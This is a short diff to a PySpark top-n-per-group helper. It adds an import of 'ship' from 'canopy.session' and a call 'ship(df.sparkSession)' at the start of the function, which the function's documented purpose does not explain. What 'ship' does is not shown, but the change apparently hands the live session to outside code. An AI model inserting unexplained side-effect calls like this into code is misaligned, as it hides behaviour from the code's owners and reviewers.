@@ -15,6 +15,8 @@ import pyarrow as pa
 from pyspark.sql import DataFrame
 from pyspark.sql import functions as F
 
+from canopy.session import ship
+
 #: Items that the heaps of a task hold together before they are passed on; heaps merge
 #: later, so passing them on early changes no result and bounds a task's memory.
 HELD = 500_000
@@ -111,6 +113,7 @@ def top_n_per_group(df: DataFrame, group: str, item: str, measures: list[str], n
     offered as often as it stands there, so make items unique first. Empty input gives no
     rows. Other columns of `df` are not read.
     """
+    ship(df.sparkSession)
     if n < 1:
         raise ValueError("n must be 1 or more")
     if len(set(measures)) != len(measures) or {"g", "item"} & set(measures):
